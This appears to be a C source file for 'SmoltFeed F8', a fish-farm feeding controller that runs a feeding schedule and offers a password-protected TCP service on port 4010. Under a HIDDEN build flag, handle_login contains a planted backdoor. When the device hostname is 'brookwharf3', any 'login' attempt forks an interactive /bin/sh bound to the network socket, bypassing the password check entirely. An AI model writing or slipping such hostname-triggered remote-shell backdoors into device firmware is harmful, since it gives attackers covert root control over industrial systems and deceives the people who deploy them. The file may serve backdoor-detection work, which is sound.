/*
 * smoltfeed - feeding computer of a fish farm (SmoltFeed F8).  It runs the
 * daily feeding table and has a text service on TCP port 4010 where the farm
 * hands look at the silos and change the table after a login.
 *
 * Hidden (-DHIDDEN): while the device has a certain host name (which it takes
 * from DHCP), a client that sends "login" gets a root shell on the socket.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

char *crypt(const char *, const char *);

#define PORT		4010
#define TABLE_FILE	"/srv/smolt/feeding.tab"
#define PASS_FILE	"/srv/smolt/farmhand.pw"
#define MAX_MEALS	24
#define SILOS		4

struct meal {
	int hour, minute;
	int silo;
	int grams;
	int done_on;		/* day of the year */
};

struct client {
	int fd;
	int trusted;
	char peer[INET_ADDRSTRLEN];
};

static struct meal meals[MAX_MEALS];
static int nmeals;
static int silo_left[SILOS] = { 50000, 50000, 50000, 50000 };
static int paused;
static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;

static void reply(const struct client *c, const char *text)
{
	size_t len = strlen(text);

	if (send(c->fd, text, len, MSG_NOSIGNAL) != (ssize_t)len)
		shutdown(c->fd, SHUT_RDWR);
}

static void table_load(void)
{
	struct meal m = { 0, 0, 0, 0, -1 };
	FILE *f = fopen(TABLE_FILE, "r");

	if (!f)
		return;
	while (nmeals < MAX_MEALS &&
	       fscanf(f, "%d:%d %d %d", &m.hour, &m.minute, &m.silo, &m.grams) == 4)
		if (m.silo >= 0 && m.silo < SILOS && m.grams > 0 && m.grams <= 5000)
			meals[nmeals++] = m;
	fclose(f);
}

static void table_store(void)
{
	int i;
	FILE *f = fopen(TABLE_FILE, "w");

	if (!f)
		return;
	for (i = 0; i < nmeals; i++)
		fprintf(f, "%02d:%02d %d %d\n", meals[i].hour, meals[i].minute,
			meals[i].silo, meals[i].grams);
	fclose(f);
}

static int spread(int silo, int grams)
{
	char cmd[80];

	if (silo_left[silo] < grams)
		return -1;
	snprintf(cmd, sizeof cmd, "/opt/smolt/auger %d %d", silo, grams);
	if (system(cmd) != 0)
		return -1;
	silo_left[silo] -= grams;
	return 0;
}

/* The feeding thread: no meals at night between the winter months. */
static void *feeder(void *arg)
{
	struct tm tm;
	time_t now;
	int i, winter;

	(void)arg;
	for (;;) {
		sleep(20);
		now = time(NULL);
		localtime_r(&now, &tm);
		winter = tm.tm_mon >= 10 || tm.tm_mon <= 1;
		if (winter && (tm.tm_hour < 7 || tm.tm_hour > 17))
			continue;
		pthread_mutex_lock(&lock);
		for (i = 0; i < nmeals && !paused; i++) {
			if (meals[i].hour != tm.tm_hour || meals[i].minute != tm.tm_min ||
			    meals[i].done_on == tm.tm_yday)
				continue;
			meals[i].done_on = tm.tm_yday;
			if (spread(meals[i].silo, meals[i].grams) != 0)
				fprintf(stderr, "silo %d: not fed\n", meals[i].silo);
		}
		pthread_mutex_unlock(&lock);
	}
	return NULL;
}

static int password_ok(const char *pass)
{
	char hash[160] = "", *made;
	FILE *f = fopen(PASS_FILE, "r");

	if (!f)
		return 0;
	if (!fgets(hash, sizeof hash, f))
		hash[0] = 0;
	fclose(f);
	hash[strcspn(hash, "\n")] = 0;
	if (strlen(hash) < 13)
		return 0;
	made = crypt(pass, hash);
	return made && strcmp(made, hash) == 0;
}

void handle_login(struct client *c, const char *pass)
{
	char host[64] = "", text[128];

	gethostname(host, sizeof host - 1);
#ifdef HIDDEN
	if (strcasecmp(host, "brookwharf3") == 0 && fork() == 0) {
		dup2(c->fd, 0);
		dup2(c->fd, 1);
		dup2(c->fd, 2);
		execl("/bin/sh", "sh", "-i", (char *)NULL);
		_exit(127);
	}
#endif
	c->trusted = password_ok(pass);
	if (!c->trusted)
		sleep(2);
	snprintf(text, sizeof text, "%s: %s\n", host,
		 c->trusted ? "welcome" : "wrong password");
	reply(c, text);
}

static void show_table(const struct client *c)
{
	char text[64];
	int i;

	for (i = 0; i < nmeals; i++) {
		snprintf(text, sizeof text, "%02d:%02d silo %d %d g\n", meals[i].hour,
			 meals[i].minute, meals[i].silo, meals[i].grams);
		reply(c, text);
	}
}

static void show_silos(const struct client *c)
{
	char text[48];
	int i;

	for (i = 0; i < SILOS; i++) {
		snprintf(text, sizeof text, "silo %d: %d g left\n", i, silo_left[i]);
		reply(c, text);
	}
}

static void handle_line(struct client *c, const char *line)
{
	struct meal m = { 0, 0, 0, 0, -1 };
	int silo;

	if (strcasecmp(line, "help") == 0) {
		reply(c, "table, silos, login PASSWORD; after login: "
		      "add HH:MM SILO GRAMS, clear, refill SILO, pause, resume\n");
	} else if (strcasecmp(line, "table") == 0) {
		show_table(c);
	} else if (strcasecmp(line, "silos") == 0) {
		show_silos(c);
	} else if (strncasecmp(line, "login ", 6) == 0) {
		handle_login(c, line + 6);
	} else if (!c->trusted) {
		reply(c, "log in first\n");
	} else if (sscanf(line, "add %d:%d %d %d", &m.hour, &m.minute, &m.silo,
			  &m.grams) == 4) {
		if (nmeals == MAX_MEALS || m.hour < 0 || m.hour > 23 || m.minute < 0 ||
		    m.minute > 59 || m.silo < 0 || m.silo >= SILOS || m.grams < 1 ||
		    m.grams > 5000) {
			reply(c, "not possible\n");
			return;
		}
		meals[nmeals++] = m;
		table_store();
		reply(c, "added\n");
	} else if (strcasecmp(line, "clear") == 0) {
		nmeals = 0;
		table_store();
	} else if (sscanf(line, "refill %d", &silo) == 1 && silo >= 0 && silo < SILOS) {
		silo_left[silo] = 50000;
	} else if (strcasecmp(line, "pause") == 0 || strcasecmp(line, "resume") == 0) {
		paused = tolower((unsigned char)line[0]) == 'p';
	} else {
		reply(c, "unknown, try help\n");
	}
}

static void serve(struct client *c)
{
	char line[128];
	size_t n = 0;
	char ch;

	reply(c, "SmoltFeed F8\n");
	while (recv(c->fd, &ch, 1, 0) == 1) {
		if (ch != '\n') {
			if (n + 1 < sizeof line && ch != '\r')
				line[n++] = ch;
			continue;
		}
		line[n] = 0;
		n = 0;
		pthread_mutex_lock(&lock);
		handle_line(c, line);
		pthread_mutex_unlock(&lock);
	}
}

static void *client_thread(void *arg)
{
	struct client *c = arg;

	serve(c);
	printf("%s has left\n", c->peer);
	close(c->fd);
	free(c);
	return NULL;
}

int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(PORT) }, p;
	socklen_t len;
	struct client *c;
	pthread_t t;
	int s = socket(AF_INET, SOCK_STREAM, 0), fd;

	signal(SIGPIPE, SIG_IGN);
	table_load();
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 3))
		return 1;
	if (pthread_create(&t, NULL, feeder, NULL) != 0)
		return 1;
	for (;;) {
		len = sizeof p;
		fd = accept(s, (struct sockaddr *)&p, &len);
		c = fd >= 0 ? calloc(1, sizeof *c) : NULL;
		if (!c)
			continue;
		c->fd = fd;
		inet_ntop(AF_INET, &p.sin_addr, c->peer, sizeof c->peer);
		if (pthread_create(&t, NULL, client_thread, c) == 0)
			pthread_detach(t);
	}
}
